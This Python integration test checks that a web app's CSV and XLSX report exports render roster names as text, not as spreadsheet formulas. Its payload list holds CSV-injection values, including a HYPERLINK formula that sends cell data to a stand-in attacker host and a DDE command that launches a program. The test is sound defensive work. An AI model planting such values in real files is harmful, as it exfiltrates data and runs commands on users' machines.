"""Issue 15, item 8: what the roster says reaches spreadsheets as text, never as a formula.

Every route that exports CSV or XLSX (found from the OpenAPI documents: a ``format`` parameter
offering them) is read after the roster gave the agency's ASN names that a spreadsheet would run:
no CSV cell may start with ``= + - @`` (OWASP's CSV-injection advice: such cells get a leading
``'``), and no XLSX cell may be a formula."""
from __future__ import annotations

import csv
import io
import re
import zipfile

import pytest

from .boundaries import openapi_path
from .routes import PROTECTED, allowed_token
from .world import AGENCY, ROSTER, UNIT, apply_roster, bearer, build_app
from kinerja.webapp import runtime_of

pytestmark = pytest.mark.integration

FORMULAS = ['=HYPERLINK("http://penyerang.example/?d="&A1,"Klik")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
            "\t=1+1", "=1+1"]


def _export_routes():
    import tempfile

    found = []
    for route in [r for r in PROTECTED if r.method == "GET"]:
        app = build_app(route.service, f"sqlite:///{tempfile.mkdtemp(prefix='kinerja-sec-')}/s.db", migrate=False)
        spec = app.test_client().get("/openapi.json").get_json()
        runtime_of(app).dispose()
        params = spec["paths"].get(openapi_path(route.rule), {}).get("get", {}).get("parameters", [])
        formats = next((p["schema"].get("enum", []) for p in params if p["name"] == "format"), [])
        if {"csv", "xlsx"} & set(formats):
            found.append((route, [f for f in formats if f in ("csv", "xlsx")]))
    return found


EXPORTS = _export_routes()


def test_the_exports_were_found():
    assert [(r.rule, f) for r, f in EXPORTS] == [("/api/v1/reports/recap", ["csv", "xlsx"])]


@pytest.mark.parametrize("route,formats", EXPORTS, ids=[r.id for r, _ in EXPORTS])
def test_names_that_look_like_formulas_are_exported_as_text(route, formats, world_of, security_report):
    w = world_of(route.service)
    ours = [row for row in ROSTER if row[2] == AGENCY][:len(FORMULAS)]
    apply_roster(w, [(nip, FORMULAS[i], agency, atasan, pin) for i, (nip, _, agency, atasan, pin) in enumerate(ours)])
    for fmt in formats:
        resp = w.call(route, bearer(allowed_token(route)), with_query=False,
                      query_string={**w.query, "unit": UNIT, "format": fmt})
        assert resp.status_code == 200, resp.get_data(as_text=True)[:300]
        data = resp.get_data()
        bad = _csv_formulas(data) if fmt == "csv" else _xlsx_formulas(data)
        security_report.attempt("formula in an export", route.service, "GET", f"{route.rule}?format={fmt}",
                                status=resp.status_code, got_through=f"{bad[:3]}" if bad else None)
        assert not bad, bad
        assert resp.headers["X-Content-Type-Options"] == "nosniff"


def _csv_formulas(data: bytes) -> list[str]:
    cells = [c for row in csv.reader(io.StringIO(data.decode("utf-8"))) for c in row]
    assert any(c.startswith("'=HYPERLINK") for c in cells), ("the names are in the export", cells[:80])
    return [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and c != "-"
                                                                         and not re.fullmatch(r"-\d+(\.\d+)?", c))]


def _xlsx_formulas(data: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheets = [book.read(n).decode() for n in book.namelist() if n.startswith("xl/worksheets/")]
        strings = book.read("xl/sharedStrings.xml").decode() if "xl/sharedStrings.xml" in book.namelist() else ""
    assert "HYPERLINK" in strings or any("HYPERLINK" in s for s in sheets)
    return [m for s in sheets for m in re.findall(r"<f>[^<]*</f>", s)]
